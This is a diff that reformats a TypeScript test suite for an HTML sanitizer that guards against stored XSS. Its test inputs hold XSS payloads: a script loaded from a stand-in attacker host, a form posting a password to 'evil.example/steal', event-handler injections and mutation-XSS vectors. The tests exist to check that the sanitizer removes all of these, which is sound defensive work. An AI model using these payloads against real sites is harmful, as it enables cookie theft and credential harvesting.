@@ -20,13 +20,29 @@ function specContainer(html: string): Element {
 }
 
 const DOMS: [string, (html: string) => string][] = [
-  ['linkedom', (html) => { const root = container(html); sanitizeContent(root, BASE); return root.innerHTML; }],
-  ['jsdom', (html) => { const root = specContainer(html); sanitizeContent(root, BASE); return root.innerHTML; }],
+  [
+    'linkedom',
+    (html) => {
+      const root = container(html);
+      sanitizeContent(root, BASE);
+      return root.innerHTML;
+    },
+  ],
+  [
+    'jsdom',
+    (html) => {
+      const root = specContainer(html);
+      sanitizeContent(root, BASE);
+      return root.innerHTML;
+    },
+  ],
 ];
 
 describe.each(DOMS)('sanitizeContent on %s', (_, sanitized) => {
   test('regression: <script> inside the article is removed with its code (stored XSS for every group member)', () => {
-    const out = sanitized('<p>Before</p><script>alert(document.cookie)</script><p>After<script src="https://evil.example/x.js"></script></p>');
+    const out = sanitized(
+      '<p>Before</p><script>alert(document.cookie)</script><p>After<script src="https://evil.example/x.js"></script></p>',
+    );
     expect(out).not.toMatch(/script/i);
     expect(out).not.toContain('alert');
     expect(out).toContain('Before');
@@ -58,12 +74,16 @@ describe.each(DOMS)('sanitizeContent on %s', (_, sanitized) => {
   });
 
   test('a <form> is unwrapped: its text stays, its controls and the form itself go', () => {
-    const out = sanitized('<form action="https://evil.example/steal"><p>Inside a form</p><input name="password"><button>Go</button></form>');
+    const out = sanitized(
+      '<form action="https://evil.example/steal"><p>Inside a form</p><input name="password"><button>Go</button></form>',
+    );
     expect(out).toBe('<p>Inside a form</p>');
   });
 
   test('unknown elements are unwrapped and comments removed; style, class and id go', () => {
-    const out = sanitized('<font color="red">Old</font><custom-thing>New</custom-thing><!-- secret --><p class="x" id="y" style="position:fixed">P</p>');
+    const out = sanitized(
+      '<font color="red">Old</font><custom-thing>New</custom-thing><!-- secret --><p class="x" id="y" style="position:fixed">P</p>',
+    );
     expect(out).toBe('OldNew<p>P</p>');
   });
 
@@ -73,7 +93,9 @@ describe.each(DOMS)('sanitizeContent on %s', (_, sanitized) => {
         '<img src="img/a.png" alt="A"><img src="data:image/png;base64,AAAA" alt="inline"><blockquote cite="/source">Q</blockquote>',
     );
     // linkedom writes attributes set on a new element last-first.
-    expect(out.replace('<img alt="A" src="https://example.com/essays/img/a.png">', '<img src="https://example.com/essays/img/a.png" alt="A">')).toBe(
+    expect(
+      out.replace('<img alt="A" src="https://example.com/essays/img/a.png">', '<img src="https://example.com/essays/img/a.png" alt="A">'),
+    ).toBe(
       '<a href="https://example.com/about/">About</a><a href="https://example.com/essays/page.html#notes">Notes</a>' +
         '<a href="mailto:ed@example.com">Mail</a><img src="https://example.com/essays/img/a.png" alt="A">' +
         '<blockquote cite="https://example.com/source">Q</blockquote>',
@@ -81,7 +103,9 @@ describe.each(DOMS)('sanitizeContent on %s', (_, sanitized) => {
   });
 
   test('table structure and list attributes are kept', () => {
-    const out = sanitized('<table><tbody><tr><td colspan="2" style="x" bgcolor="red">Cell</td></tr></tbody></table><ol start="3"><li>Three</li></ol>');
+    const out = sanitized(
+      '<table><tbody><tr><td colspan="2" style="x" bgcolor="red">Cell</td></tr></tbody></table><ol start="3"><li>Three</li></ol>',
+    );
     expect(out).toBe('<table><tbody><tr><td colspan="2">Cell</td></tr></tbody></table><ol start="3"><li>Three</li></ol>');
   });
 });
@@ -96,7 +120,10 @@ describe.each(DOMS)('sanitizeContent on %s: more XSS vectors', (_, sanitized) =>
     ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ''],
     ['<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', ''],
     ['<p style="background:url(javascript:alert(1))">s</p>', '<p>s</p>'],
-    ['<a href="https://ok.example/" target="_blank" rel="opener" ping="https://track.example">ok</a>', '<a href="https://ok.example/">ok</a>'],
+    [
+      '<a href="https://ok.example/" target="_blank" rel="opener" ping="https://track.example">ok</a>',
+      '<a href="https://ok.example/">ok</a>',
+    ],
     ['<p data-x="1" aria-label="l" id="clobber" name="cookie">p</p>', '<p>p</p>'],
     ['<template><script>alert(1)</script></template><noembed><img src=x onerror=alert(1)></noembed>T', 'T'],
   ])('%s → %s', (dirty, clean) => {
@@ -104,18 +131,21 @@ describe.each(DOMS)('sanitizeContent on %s: more XSS vectors', (_, sanitized) =>
   });
 
   test('<details open> keeps open, loses its ontoggle handler', () => {
-    expect(sanitized('<details open ontoggle="alert(1)"><summary>S</summary>D</details>')).toMatch(/^<details open(="")?><summary>S<\/summary>D<\/details>$/);
+    expect(sanitized('<details open ontoggle="alert(1)"><summary>S</summary>D</details>')).toMatch(
+      /^<details open(="")?><summary>S<\/summary>D<\/details>$/,
+    );
   });
 
   test('regression: a customised built-in (<section is="…">) keeps its content, without is', () => {
-    expect(sanitized('<section is="flynt-layout-single-post"><p>The whole article</p></section>')).toBe('<section><p>The whole article</p></section>');
+    expect(sanitized('<section is="flynt-layout-single-post"><p>The whole article</p></section>')).toBe(
+      '<section><p>The whole article</p></section>',
+    );
   });
 
   test('regression: an attribute allowed on one element is not allowed on another (src on <a>, href on <p>)', () => {
     expect(sanitized('<a src="https://x.example/">a</a><p href="https://x.example/">p</p>')).toBe('<a>a</a><p>p</p>');
   });
 });
-
 
 /** Hostile inputs; whatever each becomes, its output re-parsed must hold only what the allowlist allows. */
 const HOSTILE = [
@@ -139,7 +169,10 @@ const HOSTILE = [
   '<details open ontoggle=alert(1)><summary onclick=x>s</summary></details><dialog open>d</dialog><video poster=x onerror=alert(1)></video>',
 ];
 
-describe.each([['linkedom', container], ['jsdom', specContainer]] as const)('sanitizeContent on %s: the allowlist holds for hostile input', (_, make) => {
+describe.each([
+  ['linkedom', container],
+  ['jsdom', specContainer],
+] as const)('sanitizeContent on %s: the allowlist holds for hostile input', (_, make) => {
   test.each(HOSTILE)('%s', (dirty) => {
     const root = make(dirty);
     sanitizeContent(root, BASE);
@@ -163,9 +196,13 @@ describe.each([['linkedom', container], ['jsdom', specContainer]] as const)('san
   });
 
   test('a form keeps its text, a picture its fallback image, and nothing of either element', () => {
-    const root = make('<form action="x"><p>kept</p><input value=v></form><picture><source srcset=x.webp><img src="b.png" alt="B"></picture>');
+    const root = make(
+      '<form action="x"><p>kept</p><input value=v></form><picture><source srcset=x.webp><img src="b.png" alt="B"></picture>',
+    );
     sanitizeContent(root, BASE);
-    expect(root.innerHTML).toMatch(/^<p>kept<\/p><img (src="https:\/\/example.com\/essays\/b.png" alt="B"|alt="B" src="https:\/\/example.com\/essays\/b.png")>$/);
+    expect(root.innerHTML).toMatch(
+      /^<p>kept<\/p><img (src="https:\/\/example.com\/essays\/b.png" alt="B"|alt="B" src="https:\/\/example.com\/essays\/b.png")>$/,
+    );
   });
 });
 
@@ -233,7 +270,7 @@ test('the hostile fixture page (tests/fixtures/xss) clipped whole stores only al
   const { window } = new JSDOM(html, { url: 'http://localhost:5173/xss/hostile.html' });
   const result = extractArticle(window.document as unknown as Document, 'http://localhost:5173/xss/hostile.html');
   expect(result.ok).toBe(true);
-  const stored = result.ok ? result.clip.content_html ?? '' : '';
+  const stored = result.ok ? (result.clip.content_html ?? '') : '';
   const reparsed = new JSDOM(`<body>${stored}</body>`).window.document.body;
   expect(reparsed.textContent?.length).toBeGreaterThan(200);
   for (const el of Array.from(reparsed.querySelectorAll('*'))) {
